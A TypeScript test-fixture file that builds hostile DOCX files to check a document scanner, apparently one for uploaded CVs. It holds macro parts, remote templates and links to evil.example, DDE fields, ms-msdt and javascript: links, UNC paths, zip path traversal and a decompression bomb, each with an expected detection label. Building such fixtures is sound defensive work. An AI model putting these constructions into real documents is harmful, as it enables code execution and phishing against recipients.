import {
  contentTypes,
  docx,
  relationship,
  relationships,
  wordXml,
  type ZipFile,
  type ZipFiles,
  zip,
} from './docx-files.ts'
import type { HostileCvs } from './hostile-pdfs.ts'

const encodeAsEntity = (text: string, round: number): string => {
  const at = round % text.length
  const code = text.charCodeAt(at)
  return `${text.slice(0, at)}${round % 2 ? `&#x${code.toString(16)};` : `&#${code};`}${text.slice(at + 1)}`
}

const macroType = 'application/vnd.ms-office.vbaProject'
const hyperlink = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink'
const docxWithContentType = (more: string, part: ZipFiles = { 'word/a.bin': 'x' }) =>
  docx({ '[Content_Types].xml': contentTypes(more), ...part })
const docxWithRelationships = (items: string | Buffer, part = 'document') =>
  docx({ [`word/_rels/${part}.xml.rels`]: typeof items === 'string' ? relationships(items) : items })
const docxWithExternal = (type: string, target: string) =>
  docxWithRelationships(relationship(type, target, 'TargetMode="External"'), 'settings')
const docxWithBody = (content: string) => docx({ 'word/document.xml': wordXml(content) })
const field = (content: string) =>
  docxWithBody(
    `<w:fldChar w:fldCharType="begin"/>${content}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/>`,
  )
const template = relationship('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="External"')

export function activeDocx(round = 0): HostileCvs {
  const hidden = (text: string) => encodeAsEntity(text, round)
  const oneOf = <T>(...items: T[]): T => items[round % items.length] as T
  const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex')
  return {
    'a macro part of another name': [
      docxWithContentType(`<Override PartName="/word/a.bin" ContentType="${macroType}"/>`),
      'macros',
    ],
    'a macro part by its ending': [
      docxWithContentType(`<Default Extension="bin" ContentType="${macroType}"/>`),
      'macros',
    ],
    'a macro part whose type is spelled otherwise': [
      docxWithContentType(
        `<Override\nContentType = '${hidden(macroType)}' PartName='/word/a.bin' ></Override>`,
      ),
      'macros',
    ],
    'a macro part whose element has a prefix': [
      docxWithContentType(
        `<t:Override xmlns:t="a" PartName="/word/a.bin" ContentType="${macroType.toUpperCase()}"/>`,
      ),
      'macros',
    ],
    'a document that may have macros': [
      docx({
        '[Content_Types].xml': contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
      'macros',
    ],
    'a macro part by its relationship': [
      docxWithRelationships(
        `<Relationship Id="a" Target="a.xml" Type="http://schemas.microsoft.com/office/2006/relationships/${oneOf('vbaProject', hidden('vbaProject'))}"/>`,
      ),
      'macros',
    ],
    'a macro part by its name': [docx({ 'word/VBAproject.BIN': 'x' }), 'macros'],
    'a template elsewhere': [docxWithRelationships(template, 'settings'), 'linked'],
    'a template elsewhere, spelled otherwise': [
      docxWithRelationships(
        `<r:Relationship xmlns:r='b' TargetMode\n=\t'${hidden('External')}' Target='//evil.example/a' Type='x/${hidden('attachedTemplate')}' Id='1' ></r:Relationship>`,
      ),
      'linked',
    ],
    'a template on this computer': [
      docxWithExternal('attachedTemplate', 'file:///C:\\Users\\a\\a.dotm'),
      'linked',
    ],
    'a picture elsewhere': [
      docxWithExternal(oneOf('image', 'video', 'chart'), 'https://evil.example/a.png'),
      'linked',
    ],
    'an object elsewhere': [docxWithExternal('oleObject', 'mhtml:https://evil.example/a!x'), 'attached'],
    'a frame elsewhere': [docxWithExternal('frame', 'https://evil.example'), 'linked'],
    'a part of the document elsewhere': [
      docxWithExternal('subDocument', 'https://evil.example/a.docx'),
      'linked',
    ],
    'a relationship of another part': [
      docx({ 'customXml/_rels/item1.xml.RELS': relationships(template) }),
      'linked',
    ],
    'a link of an unknown type': [
      docxWithRelationships(
        `<Relationship Id="1" Type="a/hyperlink" Target="https://a.example" TargetMode="External"/>`,
      ),
      'linked',
    ],
    'a link to a file': [
      docxWithExternal('hyperlink', oneOf('file:///C:/a.exe', 'C:\\a.exe', 'file://a/b')),
      'linked',
    ],
    'a link to another computer': [
      docxWithExternal('hyperlink', oneOf('\\\\a\\b', '//a/b', ' \\\\a', '%5C%5Ca\\b', '&#92;&#92;a')),
      'linked',
    ],
    'a link that starts a program': [
      docxWithExternal('hyperlink', oneOf('javascript:alert(1)', 'ms-msdt:/id', 'search-ms:query=a')),
      'linked',
    ],
    'a part that lies elsewhere': [
      docxWithRelationships(relationship('image', 'https://evil.example/a.png')),
      'linked',
    ],
    'another mode': [
      docxWithRelationships(relationship('image', 'a.png', 'TargetMode="external"')),
      'damaged',
    ],
    'an attribute in a namespace': [
      docxWithRelationships(relationship('image', 'a', 'x:TargetMode="External"')),
      'damaged',
    ],
    'two modes': [
      docxWithRelationships(relationship('image', 'a', 'TargetMode="Internal" TargetMode="External"')),
      'damaged',
    ],
    'relationships in UTF-16': [
      docxWithRelationships(
        Buffer.from(`\ufeff${relationships(template)}`, oneOf('utf16le' as const, 'utf16le')),
      ),
      'damaged',
    ],
    'relationships that claim another encoding': [
      docxWithRelationships(Buffer.from(relationships(template).replace('UTF-8', 'UTF-7'))),
      'damaged',
    ],
    'relationships with entities of their own': [
      docxWithRelationships(Buffer.from(`<!DOCTYPE a [<!ENTITY x "External">]>${relationships(template)}`)),
      'damaged',
    ],
    'relationships with unknown entities': [docxWithRelationships(relationship('image', '&x;')), 'damaged'],
    'relationships in a section': [docxWithRelationships(`<![CDATA[${template}]]>`), 'damaged'],
    'relationships in an alternative': [
      docxWithRelationships(`<mc:AlternateContent>${template}</mc:AlternateContent>`),
      'damaged',
    ],
    'an instruction in the relationships': [docxWithRelationships(`<?a b?>${template}`), 'damaged'],
    'a document within': [docxWithContentType('', { 'word/a.xml': docx() }), 'attached'],
    'an object within': [docxWithContentType('', { 'word/media/image1.png': ole }), 'attached'],
    'a text with objects within': [
      docxWithContentType('', { 'word/a.txt': '{\\rtf1 \\object}' }),
      'attached',
    ],
    'an embedded object': [docx({ 'word/embeddings/a.bin': 'x' }), 'attached'],
    'a control': [
      docxWithRelationships(relationship(oneOf('control', 'package'), 'activeX1.xml')),
      'attached',
    ],
    'a page within': [docxWithRelationships(relationship('aFChunk', 'a.html')), 'attached'],
    'the type of a page': [
      docxWithContentType('<Default Extension="htm" ContentType="text/html"/>'),
      'attached',
    ],
    'an add-in': [
      docxWithRelationships('<Relationship Id="1" Type="a/webextensiontaskpanes" Target="taskpanes.xml"/>'),
      'active',
    ],
    'an object by its element': [docxWithBody('<o:OLEObject Type="Link" r:id="rId1"/>'), 'attached'],
    'a chunk by its element': [docxWithBody('<w:altChunk r:id="rId1"></w:altChunk>'), 'attached'],
    'a template by its element': [docxWithBody('<w:attachedTemplate r:id="rId1"/>'), 'linked'],
    'a frame by its element': [docxWithBody('<w:sourceFileName r:id="rId1"/>'), 'linked'],
    'a letter with data from elsewhere': [
      docxWithBody('<w:mailMerge><w:query w:val="a"/></w:mailMerge>'),
      'linked',
    ],
    'two documents': [
      docx({
        '_rels/.rels': relationships(
          relationship('officeDocument', 'word/document.xml') + relationship('officeDocument', 'a.xml'),
        ),
      }),
      'damaged',
    ],
    'a picture by its address': [
      docxWithBody(`<v:imagedata o:${oneOf('href', 'src')}="${hidden('\\\\a\\b')}"/>`),
      'linked',
    ],
    'a field that starts a program': [
      docxWithBody(
        '<w:fldChar/><w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText><w:fldChar/>',
      ),
      'active',
    ],
    'a field whose word another field writes': [
      docxWithBody(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 69 65</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> c:\\a</w:instrText><w:fldChar w:fldCharType="end"/>',
      ),
      'active',
    ],
    'a field whose word a simple field writes': [
      field(
        '<w:instrText> DD</w:instrText><w:fldSimple w:instr="QUOTE 69"><w:r/></w:fldSimple><w:instrText>AUTO a</w:instrText>',
      ),
      'active',
    ],
    'a field that starts a program, deleted': [
      field('<w:delInstrText>DDEAUTO</w:delInstrText><w:delInstrText> a</w:delInstrText>'),
      'active',
    ],
    'a field that starts a program, deleted in part': [
      field(
        oneOf(
          '<w:instrText>DD</w:instrText><w:delInstrText>EAUTO a</w:delInstrText>',
          '<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO a</w:instrText>',
        ),
      ),
      'active',
    ],
    'a field that starts a program, as text': [field('<w:t>DDE</w:t><w:t>AUTO a</w:t>'), 'active'],
    'a field that starts a program, behind a text': [
      field(
        oneOf(
          '<w:t>PAGE </w:t><w:instrText>DDE a</w:instrText>',
          '<w:t>PAGE </w:t><w:delInstrText>DDE a</w:delInstrText>',
        ),
      ),
      'active',
    ],
    'a field that brings in a picture': [
      docxWithBody(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "\\\\a\\b"</w:instrText><w:fldChar w:fldCharType="end"/>',
      ),
      'linked',
    ],
    'a field that brings in a table or a list from elsewhere': [
      field(`<w:instrText>${oneOf('DATABASE \\d "a"', ' rd "a.docx"')}</w:instrText>`),
      'linked',
    ],
    'a field that leads to a file': [
      field(
        `<w:instrText> HYPERLINK ${oneOf(
          '"\\\\\\\\a\\\\b.exe"',
          '\\l "x" "file://a/b.hta" \\o "x"',
          '\\\\\\\\a\\\\b',
          '\\n file://a/b',
          `${' '.repeat(387)}"file://a"`,
          `\\o "${'x'.repeat(400)}" "a`,
          '"https://a.example" "C:\\\\a.exe"',
        )}</w:instrText>`,
      ),
      oneOf('linked', 'linked', 'linked', 'linked', 'linked', 'unreadable', 'linked'),
    ],
    'a field that leads to where another field says': [
      field(
        `<w:instrText>HYPERLINK "</w:instrText>${oneOf(
          '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 69 65</w:instrText><w:fldChar w:fldCharType="end"/>',
          '<w:fldSimple w:instr="QUOTE 69"><w:r/></w:fldSimple>',
        )}<w:instrText>"</w:instrText>`,
      ),
      'active',
    ],
    'a simple field that leads to a program': [
      docxWithBody(`<w:fldSimple w:instr=" HYPERLINK &quot;${hidden('ms-msdt:/id')}&quot; "/>`),
      'linked',
    ],
    'a header whose type says nothing': [
      docx({
        'word/header1.xml': wordXml('<w:fldSimple w:instr="DDEAUTO a"/>'),
        'word/_rels/document.xml.rels': relationships(
          relationship(
            'header',
            oneOf('header1.xml', '/word/Header1.xml', '../word/%68eader1.xml', './header1.xml#a'),
          ),
        ),
      }),
      'active',
    ],
    'a simple field that starts a program': [
      docxWithBody(`<w:fldSimple w:instr=" ${hidden('dde')} cmd a"/>`),
      'active',
    ],
    'a place that links lead to': [
      docxWithContentType(
        '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>',
        { 'docProps/app.xml': '<Properties><HyperlinkBase>\\\\a\\b</HyperlinkBase></Properties>' },
      ),
      'linked',
    ],
    'a text with entities of its own': [
      docx({ 'word/document.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${wordXml('&a;')}` }),
      'damaged',
    ],
    'a document elsewhere': [
      docx({ '_rels/.rels': relationships(relationship('officeDocument', 'https://evil.example')) }),
      'linked',
    ],
    'another document than its name says': [
      docx({ '_rels/.rels': relationships(relationship('officeDocument', 'xl/workbook.xml')) }),
      'wrongType',
    ],
    'links without an address': [
      docxWithRelationships(`<Relationship Id="1" Type="${hyperlink}" TargetMode="External"/>`),
      'damaged',
    ],
  }
}

export function hiddenDocx(round = 0): HostileCvs {
  const part = (file: Omit<ZipFile, 'data'>, data = 'content') => docx({ 'word/a.txt': { data, ...file } })
  const extra = (id: number) => Buffer.from([id & 255, id >> 8, 2, 0, 0, 0])
  const bare = docx()
  const withEnd = (change: (end: Buffer) => void) => {
    const copy = Buffer.from(bare)
    change(copy.subarray(-22))
    return copy
  }
  return {
    'two parts of one name': [docx({ 'word/Document.xml': wordXml('') }), 'damaged'],
    'another name before the data': [part({ local: { name: 'word/b.txt' } }), 'damaged'],
    'another name in the directory': [part({ central: { name: 'word/_rels/a.xml.rels' } }), 'damaged'],
    'another method before the data': [part({ local: { method: 8 } }), 'damaged'],
    'another size before the data': [part({ local: { size: 6 } }), 'damaged'],
    'another sum before the data': [part({ local: { sum: round } }), 'damaged'],
    'a protected part': [part({ local: { flags: 1 }, central: { flags: 1 } }), 'locked'],
    'a part packed in another way': [part({ local: { method: 12 }, central: { method: 12 } }), 'unreadable'],
    'a part with another name in an extra field': [part({ extra: extra(0x7075) }), 'unreadable'],
    'a part with other sizes in an extra field': [part({ extra: extra(1) }), 'unreadable'],
    'an extra field that is cut off': [part({ extra: Buffer.from([1, 2, 9, 9]) }), 'damaged'],
    'a descriptor that lies': [
      part({ local: { flags: 8 }, central: { flags: 8 }, tail: Buffer.alloc(16, 1) }),
      'damaged',
    ],
    'something between the parts': [part({ tail: Buffer.from('PK') }), 'damaged'],
    'parts that overlap': [part({ central: { start: 0 } }), 'damaged'],
    'a part that is elsewhere': [part({ central: { start: 0x7fffffff } }), 'damaged'],
    'a part that unpacks to more than it says': [
      part({ isDeflated: true, local: { size: 9 }, central: { size: 9 } }, 'x'.repeat(1_000_000)),
      'damaged',
    ],
    'a part that unpacks to less than it says': [
      part({ isDeflated: true, local: { size: 99 }, central: { size: 99 } }),
      'damaged',
    ],
    'a part whose data goes on': [
      part({
        local: { packedSize: 9, size: 9 },
        central: { packedSize: 9, size: 9 },
        tail: Buffer.from('xx'),
      }),
      'damaged',
    ],
    'a name with a backslash': [docx({ 'word\\a.xml': 'x' }), 'damaged'],
    'a name with a disk': [docx({ 'c:/a.xml': 'x' }), 'damaged'],
    'a name with an escape': [docx({ 'word/_rels/document.xml.%72els': relationships(template) }), 'damaged'],
    'a name that is a piece': [docx({ 'word/_rels/document.xml.rels/[0].piece': 'x' }), 'damaged'],
    'a name that climbs': [docx({ 'word/../../a': 'x' }), 'damaged'],
    'a comment': [
      Buffer.concat([withEnd((end) => end.writeUInt16LE(4, 20)), Buffer.from('abcd')]),
      'damaged',
    ],
    'several disks': [withEnd((end) => end.writeUInt16LE(1, 4)), 'damaged'],
    'two counts': [withEnd((end) => end.writeUInt16LE(1, 8)), 'damaged'],
    'a directory that is too short': [withEnd((end) => end.writeUInt32LE(1, 12)), 'damaged'],
    'elements that are not closed': [docx({ 'word/document.xml': wordXml('<a>'.repeat(100)) }), 'damaged'],
    'a ZIP of a text': [zip({ 'a.txt': 'a' }), 'wrongType'],
  }
}
